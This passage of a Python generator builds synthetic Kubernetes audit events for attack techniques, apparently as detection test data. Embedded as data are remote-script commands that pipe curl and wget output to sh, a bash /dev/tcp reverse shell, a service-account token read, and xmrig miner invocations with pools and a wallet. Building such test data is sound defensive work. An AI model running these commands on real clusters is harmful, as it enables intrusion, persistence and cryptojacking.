# SPDX-License-Identifier: Apache-2.0
"""Attack events: several variants of every technique issue 11 lists. Each function returns
(technique, note, event) triples."""

import json
import urllib.parse

import mks
from mks import (container, host_path_volume, pod_spec, pod_object, owner_ref, workload,
                 role_object, rule, binding_object, subj_user, subj_group, subj_sa, created)
from world import ATTACKER_IPS, NAMESPACES, APPS


def q(params):
    return urllib.parse.urlencode(params, quote_via=urllib.parse.quote)


def exec_query(argv, container_name, tty=True):
    params = [("command", a) for a in argv] + [("container", container_name), ("stdin", "true"),
                                              ("stdout", "true")]
    if tty:
        params.append(("tty", "true"))
    else:
        params.append(("stderr", "true"))
    return q(params)


class Attacks:
    def __init__(self, ctx, w):
        self.ctx, self.w = ctx, w
        self.out = []

    def add(self, technique, note, ev):
        self.out.append((technique, note, ev))

    # ---------------------------------------------------------------- execution

    def session(self, technique, sub, who, ips, ua, verb, ns, pod, query, code=101, note=""):
        stage = "ResponseStarted" if code == 101 else "ResponseComplete"
        ev = mks.request(self.ctx, who, verb, "pods", ips, ua, namespace=ns, name=pod,
                         subresource=sub, query=query, code=code, stage=stage,
                         reason=mks.ADMIN_REASON if who["username"] == "kubernetes-admin" else
                         'RBAC: allowed by RoleBinding "oncall/' + ns + '" of ClusterRole "admin" to Group "acme:developers"')
        self.add(technique, note, ev)

    def execution(self):
        w, c = self.w, self.ctx
        ns, app = w.app()
        pod = w.pod_name(app)
        self.session("exec", "exec", w.admin(), [w.attacker_ip()], w.kubectl(), "get", ns, pod,
                     exec_query(["sh"], app), note="stolen console kubeconfig: interactive shell, WebSocket GET")
        # The same session, logged again when it ends: by design no second alert.
        end = json.loads(json.dumps(self.out[-1][2]))
        end["auditID"] = c.uid()
        end["stage"] = "ResponseComplete"
        self.add("exec", "the stolen-kubeconfig shell ends (ResponseComplete of the same request)", end)
        ns, app = w.app()
        self.session("exec", "exec", mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]),
                     [c.pick(ATTACKER_IPS)], w.old_kubectl(), "create", ns, w.pod_name(app),
                     exec_query(["bash", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"], app, tty=False),
                     note="reads the pod's service account token through exec (SPDY POST)")
        self.session("exec", "exec", w.compromised_sa(), [w.pod_ip()], "Python/3.11 websocket-client/1.8.0",
                     "get", "data", "postgres-0",
                     exec_query(["psql", "-U", "postgres", "-c", "select * from users"], "postgres", tty=False),
                     note="a compromised service account runs psql in the database pod")
        node = w.node()
        self.session("exec", "exec", mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]),
                     [w.attacker_ip()], w.kubectl(), "get", "kube-system", f"canal-{c.suffix()}",
                     exec_query(["sh"], "calico-node"), note="shell in a kube-system CNI pod")
        ns, app = w.app()
        self.session("exec", "exec", w.compromised_sa(), [w.pod_ip()], w.old_kubectl(), "create", ns,
                     w.pod_name(app), exec_query(["/bin/sh", "-c", "env"], app, tty=False), code=403,
                     note="exec refused by RBAC")
        ns, app = w.app()
        self.session("exec", "exec", mks.oidc("qa-bot@acme-shop.fr"), [w.attacker_ip()], w.kubectl(),
                     "get", ns, w.pod_name(app), exec_query(["id"], app, tty=False), code=403,
                     note="exec refused, WebSocket GET")

        ns, app = w.app()
        self.session("attach", "attach", w.admin(), [w.attacker_ip()], w.kubectl(), "get", ns,
                     w.pod_name(app), q([("container", app), ("stdin", "true"), ("stdout", "true"), ("tty", "true")]),
                     note="attach to a running container")
        ns, app = w.app()
        self.session("attach", "attach", mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]),
                     [w.attacker_ip()], w.old_kubectl(), "create", ns, w.pod_name(app),
                     q([("container", app), ("stdout", "true"), ("stderr", "true")]), note="attach, SPDY POST")
        ns, app = w.app()
        self.session("attach", "attach", w.compromised_sa(), [w.pod_ip()], "Go-http-client/1.1", "get", ns,
                     w.pod_name(app), q([("container", app), ("stdout", "true")]), code=403,
                     note="attach refused")

        self.session("port-forward", "portforward", mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]),
                     [w.attacker_ip()], w.kubectl(), "get", "data", "postgres-0", q([("ports", "5432")]),
                     note="port-forward to the database, WebSocket GET")
        self.session("port-forward", "portforward", w.admin(), [w.attacker_ip()], w.old_kubectl(), "create",
                     "data", f"redis-{c.hexs(9)}-{c.suffix()}", "", note="port-forward, SPDY POST")
        self.session("port-forward", "portforward", w.compromised_sa(), [w.pod_ip()], w.kubectl(), "get",
                     "kube-system", f"metrics-server-{c.hexs(10)}-{c.suffix()}", q([("ports", "10250")]),
                     code=403, note="port-forward refused")
        self.session("port-forward", "portforward", mks.oidc("qa-bot@acme-shop.fr"), [w.attacker_ip()],
                     w.kubectl(), "get", "payments", f"ledger-{c.hexs(9)}-{c.suffix()}",
                     q([("ports", "8080")]), note="port-forward to an internal API")

        # ephemeral debug containers
        for variant in range(4):
            ns, app = w.app() if variant != 1 else ("kube-system", "coredns")
            pod = w.pod_name(app)
            name = f"debugger-{c.suffix()}"
            image = c.pick(["busybox", "docker.io/library/busybox:1.36", "nicolaka/netshoot", "ubuntu"])
            eph = container(name, image, privileged=True if variant == 1 else None, stdin=True)
            eph["targetContainerName"] = app
            who = [w.admin(), mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]),
                   w.compromised_sa(), mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"])][variant]
            verb = "update" if variant == 2 else "patch"
            req = {"spec": {"ephemeralContainers": [eph]}}
            if verb == "update":
                req = pod_object(c, ns, pod_spec([container(app, c.pick(w_images()))]), name=pod)
                req["spec"]["ephemeralContainers"] = [eph]
            resp = pod_object(c, ns, pod_spec([container(app, c.pick(w_images()))]), name=pod)
            resp["spec"]["ephemeralContainers"] = [eph]
            code = 403 if variant == 3 else 200
            ev = mks.request(c, who, verb, "pods", [w.attacker_ip() if variant != 2 else w.pod_ip()],
                             w.kubectl() if variant != 2 else "OpenAPI-Generator/31.0.0/python",
                             namespace=ns, name=pod, subresource="ephemeralcontainers", req=req, resp=resp,
                             code=code)
            self.add("ephemeral-container", ["kubectl debug into an app pod", "privileged debug container in coredns",
                                             "raw API PUT of ephemeralcontainers", "debug refused"][variant], ev)

        # kubelet API through the API server
        proxy_cases = [
            ("get", "pods", 200, w.compromised_sa(), "curl/8.5.0", "list the pods of the node from the kubelet"),
            ("create", "run/shop/storefront-7d9c6b8f4-x2kqz/storefront?cmd=id", 200,
             mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]), "curl/7.88.1",
             "run a command through the kubelet /run endpoint"),
            ("get", "exec/payments/ledger-5f6d8b7c9-k8wzt/ledger?command=sh&input=1&output=1&tty=1", 101,
             w.compromised_sa(), "websocat/1.13.0", "kubelet exec over a WebSocket GET"),
            ("get", "configz", 200, mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]), w.kubectl(),
             "kubectl get --raw of the kubelet's configuration"),
            ("get", "runningpods/", 403, w.compromised_sa(), "python-requests/2.32.3", "refused"),
            ("get", "logs/", 200, w.admin(), w.kubectl(), "node logs (/var/log) through the kubelet"),
        ]
        for verb, path, code, who, ua, note in proxy_cases:
            node = w.node()
            uri = f"/api/v1/nodes/{node}/proxy/{path}"
            ev = mks.event(c, who, verb, uri, [w.attacker_ip() if "serviceaccount" not in who["username"] else w.pod_ip()],
                           ua, resource="nodes", name=node, subresource="proxy", code=code,
                           stage="ResponseStarted" if code == 101 else "ResponseComplete")
            self.add("nodes-proxy", note, ev)

    # ---------------------------------------------------------------- workloads

    def pod_create(self, technique, note, who, ips, ua, ns, spec, controller=None, code=201,
                   message=None, gen=None):
        c = self.ctx
        owner = None
        name = None
        if controller:
            kind, oname = controller
            owner = owner_ref(c, kind, oname, "batch/v1" if kind == "Job" else "apps/v1")
            gen = gen or oname + "-"
        else:
            name = gen or f"pod-{c.suffix()}"
            gen = None
        req = pod_object(c, ns, spec, name=name, generate_name=gen, owner=owner, created=False)
        resp = pod_object(c, ns, spec, name=name or (gen + c.suffix()), generate_name=gen, owner=owner)
        ann = None
        if code == 403 and message:
            ann = {"pod-security.kubernetes.io/enforce-policy": "baseline:latest"}
        ev = mks.request(c, who, "create", "pods", ips, ua, namespace=ns, req=req, resp=resp, code=code,
                         message=message, decision="allow", extra_annotations=ann,
                         reason="" if controller else mks.ADMIN_REASON)
        self.add(technique, note, ev)

    def controller(self, kind):
        sa_name = {"ReplicaSet": "replicaset-controller", "DaemonSet": "daemon-set-controller",
                   "Job": "job-controller", "StatefulSet": "statefulset-controller"}[kind]
        return mks.sa(self.ctx, "kube-system", sa_name), mks.ua_controller(sa_name)

    def workloads(self):
        w, c = self.w, self.ctx
        cp = ["141.95.162.40"]
        psa = ('pods "{}" is forbidden: violates PodSecurity "baseline:latest": {}')

        # privileged pods
        ns = w.ns()
        self.pod_create("privileged-pod", "bare privileged pod", mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]),
                        [w.attacker_ip()], w.kubectl(), ns,
                        pod_spec([container("shell", "ubuntu:22.04", privileged=True, command=["sleep", "infinity"])]),
                        gen="debug-shell")
        who, ua = self.controller("ReplicaSet")
        rs = f"sys-agent-{c.hexs(9)}"
        self.pod_create("privileged-pod", "the ReplicaSet controller creates the attacker's privileged pod",
                        who, cp, ua, w.ns(), pod_spec([container("agent", "docker.io/library/alpine:3.20", privileged=True,
                                                                 command=["/bin/sh", "-c", "sleep 1d"])]),
                        controller=("ReplicaSet", rs))
        self.pod_create("privileged-pod", "only the init container is privileged", w.admin(), [w.attacker_ip()], w.kubectl(),
                        w.ns(), pod_spec([container("web", "nginx:1.27")],
                                         init=[container("setup", "busybox:1.36", privileged=True,
                                                         command=["sh", "-c", "mount -t proc proc /mnt"])]),
                        gen="web-init")
        who, ua = self.controller("Job")
        self.pod_create("privileged-pod", "the Job controller creates a privileged pod", who, cp, ua, w.ns(),
                        pod_spec([container("task", "docker.io/library/debian:12", privileged=True,
                                            command=["bash", "-c", "chroot /host"])], restart="Never"),
                        controller=("Job", f"maint-{c.suffix()}"))
        self.pod_create("privileged-pod", "PodSecurity refuses a privileged pod", mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]),
                        [w.attacker_ip()], w.kubectl(), "web",
                        pod_spec([container("x", "alpine", privileged=True)]), code=403,
                        message=psa.format("privdbg", 'privileged (container "x" must not set securityContext.privileged=true)'),
                        gen="privdbg")
        who, ua = self.controller("StatefulSet")
        self.pod_create("privileged-pod", "the StatefulSet controller creates a privileged pod", who, cp, ua, "data",
                        pod_spec([container("cache", "docker.io/library/redis:7.4", privileged=True)]),
                        controller=("StatefulSet", "cache"), gen="cache-0")
        self.pod_create("privileged-pod", "SYS_ADMIN and SYS_PTRACE added instead of privileged", w.compromised_sa(),
                        [w.pod_ip()], "python-requests/2.32.3", w.ns(),
                        pod_spec([container("tool", "ubuntu:24.04", caps=["SYS_ADMIN", "SYS_PTRACE"], run_as_root=True)]),
                        gen="tool")

        # host namespaces
        self.pod_create("host-namespace-pod", "hostNetwork pod", mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]),
                        [w.attacker_ip()], w.kubectl(), w.ns(),
                        pod_spec([container("net", "nicolaka/netshoot:v0.13")], host_network=True), gen="netshoot")
        who, ua = self.controller("ReplicaSet")
        self.pod_create("host-namespace-pod", "hostPID pod from a Deployment", who, cp, ua, w.ns(),
                        pod_spec([container("peek", "alpine:3.20", command=["sleep", "3600"])], host_pid=True),
                        controller=("ReplicaSet", f"peek-{c.hexs(9)}"))
        self.pod_create("host-namespace-pod", "hostIPC pod", w.compromised_sa(), [w.pod_ip()], "curl/8.5.0", w.ns(),
                        pod_spec([container("ipc", "busybox")], host_ipc=True), gen="ipc")
        who, ua = self.controller("DaemonSet")
        self.pod_create("host-namespace-pod", "the DaemonSet controller creates the attacker's hostNetwork+hostPID pod",
                        who, cp, ua, w.ns(),
                        pod_spec([container("agent", "ghcr.io/ops-tools/node-agent:1.2")], host_network=True, host_pid=True,
                                 node_name=w.node()), controller=("DaemonSet", "node-agent"))
        self.pod_create("host-namespace-pod", "PodSecurity refuses a hostNetwork pod", w.admin(), [w.attacker_ip()], w.kubectl(),
                        "shop", pod_spec([container("x", "alpine")], host_network=True), code=403,
                        message=psa.format("hn", "host namespaces (hostNetwork=true)"), gen="hn")

        # sensitive host paths
        cases = [
            ("/run/containerd/containerd.sock", "the container runtime socket", None),
            ("/etc", "the node's /etc", "ReplicaSet"),
            ("/var/lib/kubelet/pki", "the kubelet's certificates", "Job"),
            ("/root/.ssh", "root's SSH keys", None),
            ("/proc", "the node's /proc", None),
            ("/etc/kubernetes", "the node's kubernetes config", "DaemonSet"),
            ("/var/run/containerd/containerd.sock", "the runtime socket under /var/run", "ReplicaSet"),
        ]
        for path, what, ctrl in cases:
            spec = pod_spec([container("c", c.pick(["alpine:3.20", "busybox:1.36", "ubuntu:22.04"]),
                                       mounts=[{"name": "h", "mountPath": "/h"}])],
                            volumes=[host_path_volume("h", path)])
            if ctrl:
                who, ua = self.controller(ctrl)
                self.pod_create("sensitive-hostpath-pod", f"a controller creates a pod mounting {what}", who, cp, ua,
                                w.ns(), spec, controller=(ctrl, f"helper-{c.suffix()}"))
            else:
                who = c.pick([w.admin(), mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]), w.compromised_sa()])
                ip = w.pod_ip() if "serviceaccount" in who["username"] else w.attacker_ip()
                self.pod_create("sensitive-hostpath-pod", f"a pod mounting {what}", who, [ip], w.kubectl(), w.ns(), spec)
        self.pod_create("sensitive-hostpath-pod", "PodSecurity refuses a hostPath pod", mks.oidc("qa-bot@acme-shop.fr"),
                        [w.attacker_ip()], w.kubectl(), "web",
                        pod_spec([container("c", "alpine")], volumes=[host_path_volume("h", "/etc")]), code=403,
                        message=psa.format("hp", 'hostPath volumes (volume "h")'), gen="hp")

        # node debug pods (kubectl debug node/...)
        for profile, who, image in [("legacy", w.admin(), "busybox"),
                                    ("sysadmin", mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]), "ubuntu"),
                                    ("general", mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]),
                                     "nicolaka/netshoot"),
                                    ("netadmin", w.admin(), "docker.io/library/alpine:3.20"),
                                    ("refused", mks.oidc("qa-bot@acme-shop.fr"), "busybox")]:
            node = w.node()
            ctr = container("debugger", image, privileged=True if profile == "sysadmin" else None,
                            caps=["NET_ADMIN", "NET_RAW"] if profile == "netadmin" else None,
                            mounts=[{"name": "host-root", "mountPath": "/host"}], stdin=True)
            ctr["imagePullPolicy"] = "Always"
            spec = pod_spec([ctr], volumes=[host_path_volume("host-root", "/")],
                            host_network=True, host_pid=profile != "netadmin", host_ipc=profile != "netadmin",
                            node_name=node, restart="Never", tolerations=[{"operator": "Exists"}])
            name = f"node-debugger-{node}-{c.suffix()}"
            code = 403 if profile == "refused" else 201
            self.pod_create("node-debug-pod", f"kubectl debug node/{node} --profile={profile}", who, [w.attacker_ip()],
                            w.kubectl(), "default", spec, gen=name, code=code,
                            message=psa.format(name, "host namespaces (hostNetwork=true, hostPID=true, hostIPC=true), hostPath volumes (volume \"host-root\")") if code == 403 else None)

        # DaemonSets created by people
        for who, ns, image, note, code in [
            (w.admin(), "default", "alpine:3.20", "a DaemonSet mounting / on every node", 201),
            (mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]), w.ns(), "ghcr.io/ops-tools/node-agent:1.2",
             "an unknown agent on every node", 201),
            (mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]), "kube-system",
             "docker.io/library/busybox:1.36", "a DaemonSet hidden in kube-system", 201),
            (mks.oidc("qa-bot@acme-shop.fr"), "default", "alpine", "refused", 403),
            (w.admin(), w.ns(), "registry.acme-shop.fr/tools/log-agent:0.3", "via Helm from a laptop", 201),
        ]:
            name = c.pick(["node-helper", "sys-monitor", "kube-agent", "log-collector", "node-cache"])
            spec = pod_spec([container(name, image, mounts=[{"name": "root", "mountPath": "/host"}])],
                            volumes=[host_path_volume("root", "/")] if "mounting" in note else None,
                            tolerations=[{"operator": "Exists"}])
            obj = workload(c, "DaemonSet", ns, name, spec, created=False)
            ua = "Helm/3.16.2" if "Helm" in note else w.kubectl()
            ev = mks.request(c, who, "create", "daemonsets", [w.attacker_ip()], ua, namespace=ns, group="apps",
                             req=obj, resp=created(c, obj), code=code)
            self.add("human-daemonset", note, ev)

        # CronJob persistence
        shells = [["/bin/sh", "-c", "curl -s http://45.133.1.88/k | sh"],
                  ["bash", "-c", "bash -i >& /dev/tcp/185.220.101.47/4444 0>&1"],
                  ["sh", "-c", "wget -qO- http://91.92.244.5/s.sh | sh"]]
        for i, (who, ns, note) in enumerate([
            (w.admin(), "kube-system", "a CronJob in kube-system every minute"),
            (mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]), w.ns(), "a CronJob in an app namespace"),
            (w.compromised_sa(), None, "a compromised service account creates a CronJob"),
        ]):
            ns = ns or who["username"].split(":")[2]
            name = c.pick(["log-rotate", "cache-cleanup", "kube-backup", "metrics-sync"])
            spec = pod_spec([container("job", c.pick(["alpine:3.20", "curlimages/curl:8.10.1", "busybox"]),
                                       command=shells[i])], restart="OnFailure")
            obj = workload(c, "CronJob", ns, name, spec, created=False, schedule=c.pick(["* * * * *", "*/5 * * * *", "0 * * * *"]))
            ip = w.pod_ip() if "serviceaccount" in who["username"] else w.attacker_ip()
            ev = mks.request(c, who, "create", "cronjobs", [ip], w.kubectl() if i < 2 else "python-requests/2.32.3",
                             namespace=ns, group="batch", req=obj, resp=created(c, obj))
            self.add("cronjob-persistence", note, ev)
        ns = w.ns()
        patch = [{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec/containers/0/command",
                  "value": shells[0]}]
        obj = created(c, workload(c, "CronJob", ns, "nightly-report",
                                  pod_spec([container("job", "registry.acme-shop.fr/tools/report:1.4", command=shells[0])],
                                           restart="OnFailure"), created=False, schedule="0 2 * * *"))
        ev = mks.request(c, mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]), "patch", "cronjobs",
                         [w.attacker_ip()], w.kubectl(), namespace=ns, name="nightly-report", group="batch", req=patch,
                         resp=obj)
        self.add("cronjob-persistence", "a JSON patch swaps an existing CronJob's command", ev)
        obj = workload(c, "CronJob", "default", "cleanup", pod_spec([container("job", "alpine", command=shells[2])]),
                       created=False)
        ev = mks.request(c, mks.oidc("qa-bot@acme-shop.fr"), "create", "cronjobs", [w.attacker_ip()], w.kubectl(),
                         namespace="default", group="batch", req=obj, code=403)
        self.add("cronjob-persistence", "CronJob refused", ev)
        who, ua = self.controller("Job")
        self.pod_create("cronjob-persistence", "the Job controller starts the persistence job's pod in kube-system",
                        who, cp, ua, "kube-system",
                        pod_spec([container("job", "curlimages/curl:8.10.1", command=shells[0])], restart="OnFailure"),
                        controller=("Job", f"kube-backup-{c.rng.randint(28900000, 28999999)}"))

        # workloads and untrusted images in kube-system
        name = c.pick(["kube-dns-helper", "coredns-metrics", "node-problem-agent"])
        obj = workload(c, "Deployment", "kube-system", name,
                       pod_spec([container(name, "docker.io/library/alpine:3.20", command=["sh", "-c", "sleep infinity"])]),
                       created=False)
        ev = mks.request(c, w.admin(), "create", "deployments", [w.attacker_ip()], w.kubectl(), namespace="kube-system",
                         group="apps", req=obj, resp=created(c, obj))
        self.add("kube-system-workload", "a Deployment with a foreign image in kube-system", ev)
        who, ua = self.controller("ReplicaSet")
        self.pod_create("kube-system-workload", "its pod, created by the ReplicaSet controller", who, cp, ua,
                        "kube-system", pod_spec([container(name, "docker.io/library/alpine:3.20")]),
                        controller=("ReplicaSet", f"{name}-{c.hexs(9)}"))
        patch = {"spec": {"template": {"spec": {"containers": [{"name": "coredns", "image": "ghcr.io/dnstools/coredns:1.11.3"}]}}}}
        obj = created(c, workload(c, "Deployment", "kube-system", "coredns",
                                  pod_spec([container("coredns", "ghcr.io/dnstools/coredns:1.11.3")]), created=False))
        ev = mks.request(c, mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"]), "patch", "deployments",
                         [w.attacker_ip()], w.kubectl(), namespace="kube-system", name="coredns", group="apps",
                         req=patch, resp=obj)
        self.add("kube-system-workload", "kubectl set image swaps CoreDNS's image", ev)
        self.pod_create("kube-system-workload", "the swapped CoreDNS image starts", who, cp, ua, "kube-system",
                        pod_spec([container("coredns", "ghcr.io/dnstools/coredns:1.11.3")], sa_name="coredns",
                                 priority_class="system-cluster-critical"),
                        controller=("ReplicaSet", f"coredns-{c.hexs(10)}"))
        self.pod_create("kube-system-workload", "a bare pod named like kube-proxy in kube-system",
                        mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]), [w.attacker_ip()], w.kubectl(),
                        "kube-system", pod_spec([container("kube-proxy", "ubuntu:22.04", command=["sleep", "infinity"])]),
                        gen=f"kube-proxy-{c.suffix()}")
        obj = workload(c, "Job", "kube-system", "etcd-defrag",
                       pod_spec([container("job", "bitnami/kubectl:1.31", command=["kubectl", "get", "secrets", "-A", "-o", "yaml"])],
                                restart="Never"), created=False)
        ev = mks.request(c, w.compromised_sa(), "create", "jobs", [w.pod_ip()], "kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5",
                         namespace="kube-system", group="batch", req=obj, resp=created(c, obj))
        self.add("kube-system-workload", "a Job in kube-system", ev)
        obj = workload(c, "StatefulSet", "kube-public", "cache",
                       pod_spec([container("cache", "redis:7")]), created=False)
        ev = mks.request(c, w.admin(), "create", "statefulsets", [w.attacker_ip()], w.kubectl(), namespace="kube-public",
                         group="apps", req=obj, resp=created(c, obj))
        self.add("kube-system-workload", "a StatefulSet in kube-public", ev)

        # cryptominers
        who, ua = self.controller("ReplicaSet")
        for image, args, ctrl, note in [
            ("docker.io/metal3d/xmrig:latest", None, "ReplicaSet", "xmrig image from a Deployment"),
            ("ubuntu:22.04", ["./xmrig", "-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "--donate-level", "1"],
             "Job", "an ubuntu pod running xmrig against a pool"),
            ("ghcr.io/xmrig/xmrig:6.22.2", ["-o", "gulf.moneroocean.stream:10128", "--cpu-max-threads-hint", "100"],
             "DaemonSet", "xmrig on every node"),
            ("docker.io/minerboy/cpuminer-opt:3.24", ["-a", "yespower", "-o", "stratum+tcp://yespower.na.mine.zpool.ca:6234"],
             None, "a cpuminer pod created by a user"),
        ]:
            spec = pod_spec([container("worker", image, args=args,
                                       resources={"requests": {"cpu": "4", "memory": "2Gi"}, "limits": {"cpu": "8"}})])
            if ctrl:
                cw, cua = self.controller(ctrl)
                self.pod_create("cryptominer", note, cw, cp, cua, w.ns(), spec, controller=(ctrl, f"worker-{c.suffix()}"))
            else:
                self.pod_create("cryptominer", note, mks.oidc("qa-bot@acme-shop.fr"), [w.attacker_ip()], w.kubectl(),
                                w.ns(), spec, gen="worker")
        obj = workload(c, "Deployment", w.ns(), "image-resizer",
                       pod_spec([container("resizer", "docker.io/library/alpine:3.20",
                                           command=["sh", "-c", "wget -q http://91.92.244.5/xmrig && chmod +x xmrig && ./xmrig -o pool.hashvault.pro:443 --tls"],
                                           resources={"requests": {"cpu": "2"}})]),
                       created=False, replicas=6)
        ev = mks.request(c, w.admin(), "create", "deployments", [w.attacker_ip()], w.kubectl(), namespace=obj["metadata"]["namespace"],
                         group="apps", req=obj, resp=created(c, obj))
        self.add("cryptominer", "a Deployment whose pods download and run a miner", ev)

    # ---------------------------------------------------------------- RBAC

    def rbac_write(self, technique, note, who, verb, kind, obj=None, name=None, ns=None, code=None, ip=None, ua=None,
                   resp=None):
        c, w = self.ctx, self.w
        resource = {"Role": "roles", "ClusterRole": "clusterroles", "RoleBinding": "rolebindings",
                    "ClusterRoleBinding": "clusterrolebindings"}[kind]
        if resp is None and obj is not None and not isinstance(obj, list) and (code or 200) < 400:
            resp = created(c, obj)
        ip = ip or (w.pod_ip() if "serviceaccount" in who["username"] else w.attacker_ip())
        ev = mks.request(c, who, verb, resource, [ip], ua or w.kubectl(), namespace=ns, name=name,
                         group="rbac.authorization.k8s.io", req=obj, resp=resp, code=code)
        self.add(technique, note, ev)

    def rbac(self):
        w, c = self.w, self.ctx
        contractor = mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"])
        dev = mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"])

        # cluster-admin bindings
        b = binding_object("ClusterRoleBinding", "contractor-admin", "ClusterRole", "cluster-admin",
                           [subj_user("ext-contractor@acme-shop.fr")])
        self.rbac_write("cluster-admin-binding", "a ClusterRoleBinding to cluster-admin for a user", contractor, "create",
                        "ClusterRoleBinding", b)
        sa_who = w.compromised_sa()
        ns = sa_who["username"].split(":")[2]
        b = binding_object("ClusterRoleBinding", f"{ns}-default-admin", "ClusterRole", "cluster-admin",
                           [subj_sa(ns, "default")])
        self.rbac_write("cluster-admin-binding", "a compromised service account binds itself to cluster-admin", sa_who,
                        "create", "ClusterRoleBinding", b, ua="python-requests/2.32.3")
        ns = w.ns()
        b = binding_object("RoleBinding", "ops-admin", "ClusterRole", "cluster-admin", [subj_user("qa-bot@acme-shop.fr")], ns)
        self.rbac_write("cluster-admin-binding", "a RoleBinding to cluster-admin in a namespace", dev, "create",
                        "RoleBinding", b, ns=ns)
        patch = [{"op": "add", "path": "/subjects/-", "value": subj_user("ext-contractor@acme-shop.fr")}]
        resp = created(c, binding_object("ClusterRoleBinding", "cluster-admin", "ClusterRole", "cluster-admin",
                                         [subj_group("system:masters"), subj_user("ext-contractor@acme-shop.fr")]))
        self.rbac_write("cluster-admin-binding", "a JSON patch adds a user to the cluster-admin binding", w.admin(), "patch",
                        "ClusterRoleBinding", patch, name="cluster-admin", resp=resp)
        b = binding_object("ClusterRoleBinding", "qa-admin", "ClusterRole", "cluster-admin", [subj_user("qa-bot@acme-shop.fr")])
        self.rbac_write("cluster-admin-binding", "refused", mks.oidc("qa-bot@acme-shop.fr"), "create", "ClusterRoleBinding",
                        b, code=403)
        b = binding_object("ClusterRoleBinding", "authenticated-admin", "ClusterRole", "cluster-admin",
                           [subj_group("system:authenticated")])
        self.rbac_write("cluster-admin-binding", "every authenticated user becomes cluster-admin", w.admin(), "create",
                        "ClusterRoleBinding", b)
        b = binding_object("ClusterRoleBinding", "system:kube-dns-autoscaler", "ClusterRole", "cluster-admin",
                           [subj_sa("kube-system", "default")])
        self.rbac_write("cluster-admin-binding", "a binding disguised with a system: name", contractor, "create",
                        "ClusterRoleBinding", b)

        # wildcard roles
        r = role_object("ClusterRole", c.pick(["ops-all", "platform-support", "break-glass"]), [rule(["*"], ["*"], ["*"])])
        self.rbac_write("wildcard-role", "a ClusterRole granting everything", contractor, "create", "ClusterRole", r)
        ns = w.ns()
        r = role_object("Role", "app-manager", [rule([""], ["pods", "secrets", "configmaps"], ["*"])], namespace=ns)
        self.rbac_write("wildcard-role", "a Role with every verb on pods and secrets", dev, "create", "Role", r, ns=ns)
        r = role_object("ClusterRole", "read-everything", [rule(["", "apps", "batch"], ["*"], ["get", "list", "watch"])])
        self.rbac_write("wildcard-role", "a ClusterRole reading every resource, secrets included", w.admin(), "create",
                        "ClusterRole", r)
        r = role_object("ClusterRole", "ci-deployer", [rule(["apps"], ["deployments"], ["get", "list", "patch"]),
                                                      rule(["*"], ["*"], ["*"])])
        self.rbac_write("wildcard-role", "an update widens an existing ClusterRole to everything", dev, "update",
                        "ClusterRole", r, name="ci-deployer")
        patch = [{"op": "add", "path": "/rules/0/verbs/-", "value": "*"}]
        resp = created(c, role_object("Role", "reader", [rule([""], ["pods", "services"], ["get", "list", "*"])], namespace="shop"))
        self.rbac_write("wildcard-role", "a JSON patch adds * to a Role's verbs", contractor, "patch", "Role", patch,
                        name="reader", ns="shop", resp=resp)
        r = role_object("ClusterRole", "tmp-access", [rule(["*"], ["*"], ["*"])])
        self.rbac_write("wildcard-role", "refused", mks.oidc("qa-bot@acme-shop.fr"), "create", "ClusterRole", r, code=403)

        # bindings to such roles
        ns = w.ns()
        b = binding_object("RoleBinding", "app-manager", "Role", "app-manager", [subj_sa(ns, "default")], ns)
        self.rbac_write("binding-to-wildcard-role", "a RoleBinding to the wildcard Role", dev, "create", "RoleBinding", b, ns=ns)
        b = binding_object("ClusterRoleBinding", "ops-all", "ClusterRole", "ops-all", [subj_user("ext-contractor@acme-shop.fr")])
        self.rbac_write("binding-to-wildcard-role", "a ClusterRoleBinding to the wildcard ClusterRole", contractor, "create",
                        "ClusterRoleBinding", b)
        b = binding_object("RoleBinding", "support", "ClusterRole", "platform-support", [subj_group("acme:contractors")], "kube-system")
        self.rbac_write("binding-to-wildcard-role", "a RoleBinding in kube-system to the wildcard ClusterRole", w.admin(),
                        "create", "RoleBinding", b, ns="kube-system")
        b = binding_object("ClusterRoleBinding", "read-everything", "ClusterRole", "read-everything",
                           [subj_sa("web", "frontend")])
        self.rbac_write("binding-to-wildcard-role", "refused", mks.oidc("qa-bot@acme-shop.fr"), "create", "ClusterRoleBinding",
                        b, code=403)

        # roles granting exec
        ns = w.ns()
        r = role_object("Role", "debugger", [rule([""], ["pods"], ["get", "list"]), rule([""], ["pods/exec"], ["create", "get"])],
                        namespace=ns)
        self.rbac_write("pod-exec-role", "a Role granting pods/exec", dev, "create", "Role", r, ns=ns)
        r = role_object("ClusterRole", "support-shell", [rule([""], ["pods/exec", "pods/attach"], ["create", "get"])])
        self.rbac_write("pod-exec-role", "a ClusterRole granting exec and attach", contractor, "create", "ClusterRole", r)
        r = role_object("Role", "viewer", [rule([""], ["pods", "pods/log"], ["get", "list", "watch"]),
                                           rule([""], ["pods/exec"], ["create"])], namespace="payments")
